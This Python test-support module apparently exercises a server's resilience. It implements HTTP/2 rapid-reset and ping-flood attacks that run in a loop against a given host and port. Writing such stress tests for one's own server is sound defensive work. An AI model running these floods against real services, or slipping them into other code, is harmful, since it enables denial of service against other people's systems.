"""An attacker in a process of its own, who gives way to everybody: who attacks in earnest has cores of their own.

usage: python -m tests.support.flood resets|pings HOST:PORT MESSAGE_IN_HEX
"""

import contextlib
import os
import sys

from . import http2


def resets(connection, message):
    """Begins calls and gives them up, fifty at a time, until the server closes."""
    stream = 1
    while stream < 200_000:
        streams = range(stream, stream + 100, 2)
        connection.send(*(http2.call(n, "FrameService/GetFrames", message) + http2.reset(n) for n in streams))
        stream += 100


def pings(connection, _):
    """Pings, and takes no answer."""
    for _ in range(20_000):
        connection.send(http2.ping() * 100)


ATTACKS = {"resets": resets, "pings": pings}


def main():
    """One attack after the other, each until its connection is closed, or read from no more."""
    attack, target, message = ATTACKS[sys.argv[1]], sys.argv[2], bytes.fromhex(sys.argv[3])
    os.nice(19)
    print("begins", flush=True)
    while True:
        connection = http2.Connection(target, timeout_secs=1)
        with contextlib.suppress(OSError):
            attack(connection, message)
        connection.close()


if __name__ == "__main__":
    main()
